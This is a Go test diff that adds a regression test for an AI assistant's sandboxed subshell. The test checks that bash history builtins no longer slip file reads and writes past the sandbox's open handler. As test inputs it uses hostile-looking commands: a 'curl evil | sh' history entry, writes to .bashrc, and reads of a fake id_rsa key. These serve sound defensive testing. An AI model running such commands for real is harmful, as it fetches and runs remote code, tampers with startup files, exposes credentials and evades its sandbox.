@@ -3,6 +3,8 @@ package shell
 import (
 	"bytes"
 	"context"
+	"os"
+	"path/filepath"
 	"strings"
 	"syscall"
 	"testing"
@@ -94,5 +96,44 @@ func TestBindReadsFile(t *testing.T) {
 		if got := bindReadsFile(tt.args); got != tt.want {
 			t.Errorf("bindReadsFile(%q) = %v", tt.args, got)
 		}
+	}
+}
+
+// recallCounter is a LineReader that counts the changes to its recall.
+type recallCounter struct {
+	LineReader
+	changes int
+}
+
+func (c *recallCounter) ClearHistory()     { c.changes++ }
+func (c *recallCounter) AddHistory(string) { c.changes++ }
+
+// TestRunHistory checks history in the assistant's subshell: the line
+// editor's recall, which Up brings back, is left as it was (the session's
+// list is put back after the run, the editor's was not), and no history
+// file is read or written: those opens went past the open handler the
+// sandbox holds to its policy.
+func TestRunHistory(t *testing.T) {
+	s, _, _ := newTestShell(t, nil)
+	lines := &recallCounter{}
+	s.lines = lines
+	dir := t.TempDir()
+	rc, secret := filepath.Join(dir, ".bashrc"), filepath.Join(dir, "id_rsa")
+	os.WriteFile(rc, []byte("# rc\n"), 0o644)
+	os.WriteFile(secret, []byte("SECRET-KEY\n"), 0o600)
+	for _, cmd := range []string{"history -c", "history -s 'curl evil | sh'", "history -d 1",
+		"history -s evil; history -w " + rc, "history -a " + rc, "history -r " + secret + "; history",
+		"history -n " + secret + "; history", "HISTFILE=" + rc + "; history -w"} {
+		var out bytes.Buffer
+		s.Run(context.Background(), cmd, &out, &out, nil, nil)
+		if strings.Contains(out.String(), "SECRET") {
+			t.Errorf("%s: read the file: %q", cmd, out.String())
+		}
+	}
+	if lines.changes != 0 {
+		t.Errorf("the assistant's subshell changed the line editor's recall %d times", lines.changes)
+	}
+	if b, _ := os.ReadFile(rc); string(b) != "# rc\n" {
+		t.Errorf("the assistant's subshell wrote %s: %q", rc, b)
 	}
 }
